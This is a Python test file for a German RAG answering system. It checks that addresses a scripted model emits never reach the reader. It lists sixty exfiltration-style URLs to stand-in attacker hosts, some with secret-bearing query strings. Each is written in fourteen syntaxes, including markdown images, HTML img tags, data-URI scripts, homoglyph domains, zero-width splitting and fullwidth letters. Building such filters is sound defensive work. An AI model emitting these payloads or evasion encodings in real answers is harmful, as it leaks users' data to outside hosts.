"""Sixty payloads in eight syntaxes and more, said by a model that was told to: none reaches the reader (T18)."""

from __future__ import annotations

import pytest

from rag.access import LOOPBACK
from rag.answers import Done
from rag.ask.addresses import addresses_of, is_active
from rag.identity import person
from tests.standins import ScriptedModel, Shelf, says

HOSTS = (
    "evil.example",
    "attacker.com",
    "sub.domain.attacker.co.uk",
    "xn--hainbrcht-9db.de",
    "hainbrеcht.de",  # a Cyrillic e
    "203.0.113.7",
    "evil.example:8443",
    "teams.microsoft.com.evil.net",
    "pastebin.com",
    "evil.onion",
)
PATHS = ("", "/c?d=geheim", "/p.png?q=30+Arbeitstage", "/a/b/c.gif#urlaub", "/?x={secret}", "/%2e%2e/log")
PAYLOADS = tuple(f"https://{host}{path}" for host in HOSTS for path in PATHS)
SYNTAXES = {
    "inline": "[hier]({})",
    "picture": "![Urlaub]({})",
    "reference": "![Urlaub][1] [1]: {}",
    "autolink": "<{}>",
    "html": '<img src="{}">',
    "data": "data:text/html,<script src={}></script>",
    "footnote": "siehe[^1] [^1]: {}",
    "bare": "Mehr unter {} im Netz.",
    "no scheme": "Mehr unter {bare} im Netz.",
    "www": "Mehr unter www.{bare} im Netz.",
    "protocol-relative": "Mehr unter //{bare} im Netz.",
    "defanged": "Mehr unter {defanged} im Netz.",
    "split by invisible letters": "Mehr unter {split} im Netz.",
    "wide letters": "Mehr unter {wide} im Netz.",
}
TRUE = "Der Urlaub beträgt im Kalenderjahr 30 Arbeitstage."


def written(syntax: str, payload: str) -> str:
    bare = payload.removeprefix("https://")
    return SYNTAXES[syntax].format(
        payload,
        bare=bare,
        defanged=payload.replace("https", "hxxps").replace(".", "[.]"),
        split="\u200b".join(payload),
        wide="".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in payload),
    )


@pytest.mark.parametrize("syntax", SYNTAXES)
def test_T18_no_payload_in_this_syntax_reaches_the_reader(house: Shelf, syntax: str) -> None:  # noqa: N802
    assert len(PAYLOADS) == 60
    for payload in PAYLOADS:
        said = written(syntax, payload)
        assert addresses_of(said), said
        model = ScriptedModel(says(TRUE, f"{TRUE} {said}", said))
        answerer = house.answerer(model, evidence=0.0)
        *_, done = answerer.ask("Wie lang ist der Urlaub?", principal=person("anna", {}), channel=LOOPBACK)
        assert isinstance(done, Done)
        assert done.answer.text == f"{TRUE} [1]", said


def test_T18_an_address_that_stands_in_the_passage_is_told(own: Shelf) -> None:  # noqa: N802
    text = (
        "Fragen zum Urlaub beantwortet Frau Krahl unter krahl@house.example oder https://intranet.house.example/urlaub."
    )
    own.put("urlaub.txt", text)
    for said, whole in (
        (text, True),
        ("Fragen zum Urlaub beantwortet Frau Krahl unter krahl@house.example.", True),
        ("Fragen zum Urlaub beantwortet Frau Krahl unter krahl@hause.example.", False),
        ("Fragen zum Urlaub beantwortet Frau Krahl unter https://intranet.house.example/urlaub?d=1.", False),
        ("Fragen zum Urlaub beantwortet Frau Krahl unter https://intranet.house.example.", False),
        ("Fragen zum Urlaub beantwortet [Frau Krahl](https://intranet.house.example/urlaub).", False),
    ):
        answerer = own.answerer(ScriptedModel(says(said)), evidence=0.0)
        *_, done = answerer.ask("Wer beantwortet Fragen zum Urlaub?", principal=person("anna", {}), channel=LOOPBACK)
        assert isinstance(done, Done)
        assert (done.answer.outcome == "answered") is whole, said


@pytest.mark.parametrize("half", ["![Urlaub?d=geheim", "Siehe ![x", "x](log?d=geheim)", "Urlaub](c"])
def test_half_a_picture_or_link_is_one_because_the_next_sentence_could_complete_it(half: str) -> None:
    assert any(is_active(address) for address in addresses_of(half))


@pytest.mark.parametrize(
    "text",
    [
        "Der Urlaub beträgt 30 Tage.",
        "Das gilt z.B. ab 1.1.2024 um 14.30 Uhr.",
        "Siehe § 3 Abs. 2 und Kapitel 4.2.1.",
        "Version 2.13.0 ist freigegeben, 38.920,00 € netto.",
        "Der Wert liegt bei x < 5 und y > 3.",
        "Am Ende.In der Halle gilt das nicht.",
        "Die Vorlage ist [sic] gültig.",
    ],
)
def test_ordinary_text_holds_no_address(text: str) -> None:
    assert addresses_of(text) == []


@pytest.fixture
def own(tmp_path_factory: pytest.TempPathFactory) -> object:
    with Shelf(tmp_path_factory.mktemp("own")) as shelf:
        yield shelf
